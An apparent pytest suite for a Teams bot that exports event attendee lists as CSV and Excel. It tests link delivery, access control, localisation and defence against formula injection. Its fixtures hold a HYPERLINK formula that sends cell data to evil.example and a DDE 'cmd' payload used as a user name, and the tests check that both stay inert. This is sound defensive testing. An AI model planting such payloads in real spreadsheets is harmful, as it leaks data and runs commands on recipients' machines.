"""参加者 エクスポート through the real HTTP endpoint: a coordinator asks in the event's thread,
two links (CSV and Excel) arrive in their personal chat only; the CSV opens in Excel with
Japanese intact, the workbook has a bold frozen header with a filter, real date-times, and
nobody's formula in any cell."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from urllib.parse import quote, urlsplit

from openpyxl import load_workbook
from sqlalchemy import select

from storage.db import Database
from storage.models import AuditEntry
from tests.app.test_attendees import an_event
from tests.app.test_registration import (
    SABURO,
    a_decided_day,
    on_site,
    personal_messages,
    register,
)
from tests.fakes.connector import FakeConnector, Posted
from tests.fixtures.app import RunningBot
from tests.fixtures.connector import HANAKO, JIRO, TARO, Activities, TeamsUser

EXPORT = "参加者 エクスポート"
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細はこちら")'
MALLORY = TeamsUser(
    "=1+cmd|' /C calc'!A0", "29:1user0666-mallory", "aad00000-0000-4000-8000-000000000666", "m@x"
)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def link_paths(message: Posted) -> dict[str, str]:
    """The download links in a message, by their label (CSV, Excel)."""
    found = re.findall(r"\[([^\]]+)\]\((https?://[^)\s]+/exports/[^)\s]+)\)", message.text or "")
    assert len(found) == 2, message.text
    return {label: urlsplit(url).path for label, url in found}


async def a_registered_day(
    bot: RunningBot, activities: Activities, connector: FakeConnector
) -> Posted:
    """The decided day with two seats: Hanako and Mallory (a formula for a name) get them,
    Saburo waits, Jiro joins online with a note that is a formula, Taro cannot come."""
    announcement = await a_decided_day(bot, activities, connector)
    hanako = on_site("imabari", "デジタル推進課", note="13時ごろ到着します\n駐車場を使います")
    await register(bot, activities, announcement, HANAKO, **hanako)
    await register(bot, activities, announcement, MALLORY, **on_site("ozu", "#N/A", slot="am"))
    await register(bot, activities, announcement, SABURO, **on_site("yawatahama"))
    await register(
        bot, activities, announcement, JIRO, mode="online", municipality="uwajima",
        note=HOSTILE_NOTE,
    )  # fmt: skip
    await register(bot, activities, announcement, TARO, mode="absent")
    return announcement


async def test_a_coordinator_gets_csv_and_excel_links_in_their_personal_chat(
    bot: RunningBot, activities: Activities, connector: FakeConnector, database: Database
) -> None:
    announcement = await a_registered_day(bot, activities, connector)
    before = len(connector.sent)

    await bot.send(activities.channel_message(EXPORT, from_=TARO, thread=announcement.reply_to_id))

    sent = await connector.wait_for_sent(before + 2)
    [notice] = [p for p in sent[before:] if p.conversation_id.startswith(activities.team.id)]
    assert "個人チャットにリンクを送りました（15分有効）" in (notice.text or "")
    assert "/exports/" not in (notice.text or "")
    [chat] = [c for c in connector.created if not c.is_group]
    assert [m["id"] for m in chat.members] == [TARO.teams_id]
    [link] = personal_messages(connector)
    assert "IYO WORK「第2回IYO WORK」（12/15(火) 09:00–17:00）の参加者一覧" in (link.text or "")
    assert "11/26(木) 10:15 まで" in (link.text or "")
    paths = link_paths(link)
    assert set(paths) == {"CSV", "Excel"}

    response = await bot.client.get(paths["CSV"])
    content = await response.read()
    assert response.status == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert 'filename="attendees_1_20261215.csv"' in disposition
    assert "filename*=UTF-8''" + quote("参加者一覧_第2回IYO WORK_20261215.csv") in disposition
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    at = "2026-11-26 10:00"
    assert rows == [
        ["名前", "所属", "部署", "参加方法", "状態", "時間帯", "メモ", "登録日時"],
        ["今治 花子", "今治市", "デジタル推進課", "現地", "席あり", "終日",
         "13時ごろ到着します\n駐車場を使います", at],
        ["'" + MALLORY.name, "大洲市", "#N/A", "現地", "席あり", "午前", "", at],
        ["八幡浜 三郎", "八幡浜市", "", "現地", "キャンセル待ち1番", "終日", "", at],
        ["宇和島 次郎", "宇和島市", "", "オンライン", "オンライン", "終日", "'" + HOSTILE_NOTE, at],
        ["松山 太郎", "", "", "欠席", "欠席", "", "", at],
    ]  # fmt: skip

    response = await bot.client.get(paths["Excel"])
    assert response.status == 200
    assert response.headers["Content-Type"] == XLSX
    assert 'filename="attendees_1_20261215.xlsx"' in response.headers["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(await response.read()))
    sheet = workbook.active
    assert sheet.title == "2026-12-15 第2回IYO WORK"
    assert sheet["A1"].value == "第2回IYO WORK　12/15(火) 09:00–17:00"
    header = [cell.value for cell in sheet[2]]
    assert header == ["名前", "所属", "部署", "参加方法", "状態", "時間帯", "メモ", "登録日時"]
    assert all(cell.font.bold for cell in sheet[2])
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:H7"
    values = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=3)]
    assert values[1][:3] == [MALLORY.name, "大洲市", "#N/A"]  # shown as typed…
    assert values[3][6] == HOSTILE_NOTE
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]  # …never run
    # Excel has no time zones: the moment is written as the wall-clock time in Japan.
    assert values[0][7] == datetime(2026, 11, 26, 10, 0)
    assert sheet["H3"].number_format == "yyyy-mm-dd hh:mm"
    widths = {column: sheet.column_dimensions[column].width for column in "ABCDEFGH"}
    assert widths["B"] >= 8 and widths["G"] > widths["D"] and max(widths.values()) <= 60

    async with database.transaction() as session:
        entries = (await session.scalars(select(AuditEntry).order_by(AuditEntry.id))).all()
    exports = [(e.action, e.detail.get("kind")) for e in entries if e.action.startswith("export.")]
    assert exports == [
        ("export.link", "attendees_csv"),
        ("export.link", "attendees_xlsx"),
        ("export.download", "attendees_csv"),
        ("export.download", "attendees_xlsx"),
    ]


async def test_someone_who_is_not_a_coordinator_gets_no_link(
    bot: RunningBot, activities: Activities, connector: FakeConnector, database: Database
) -> None:
    announcement = await a_registered_day(bot, activities, connector)
    before = len(connector.sent)

    await bot.send(
        activities.channel_message(EXPORT, from_=HANAKO, thread=announcement.reply_to_id)
    )

    [refusal] = (await connector.wait_for_sent(before + 1))[before:]
    assert "コーディネーター" in (refusal.text or "")
    assert personal_messages(connector) == []
    async with database.transaction() as session:
        actions = (await session.scalars(select(AuditEntry.action))).all()
    assert "export.link" not in actions


async def test_in_the_personal_chat_the_links_come_as_the_answer_in_english(
    bot: RunningBot, activities: Activities, connector: FakeConnector
) -> None:
    await a_registered_day(bot, activities, connector)
    before = len(connector.sent)

    await bot.send(activities.personal_message("attendees export 1", from_=TARO, locale="en-US"))

    [answer] = (await connector.wait_for_sent(before + 1))[before:]
    assert answer.conversation_id == f"a:1personal-{TARO.aad_object_id}"
    paths = link_paths(answer)
    response = await bot.client.get(paths["CSV"])
    rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    assert rows[0] == [
        "Name", "Organisation", "Department", "Attendance", "Status", "Time of day", "Note",
        "Registered at",
    ]  # fmt: skip
    assert rows[3][:5] == ["八幡浜 三郎", "Yawatahama City", "", "On site", "Waiting list no. 1"]
    workbook = load_workbook(io.BytesIO(await (await bot.client.get(paths["Excel"])).read()))
    assert workbook.active["A2"].value == "Name"


async def test_an_event_that_is_not_there_is_said_so(
    bot: RunningBot, activities: Activities, connector: FakeConnector, database_url: str
) -> None:
    await bot.send(activities.channel_message(EXPORT, from_=TARO))
    [nothing] = await connector.wait_for_sent(1)
    assert "IYO WORK がまだありません。" in (nothing.text or "")

    await an_event(database_url, bot.clock.now(), date(2026, 12, 10), "第2回IYO WORK")
    before = len(connector.sent)
    await bot.send(activities.personal_message(f"{EXPORT} 忘年会", from_=TARO))
    [missing] = (await connector.wait_for_sent(before + 1))[before:]
    assert "「忘年会」に当たる IYO WORK が見つかりませんでした。" in (missing.text or "")
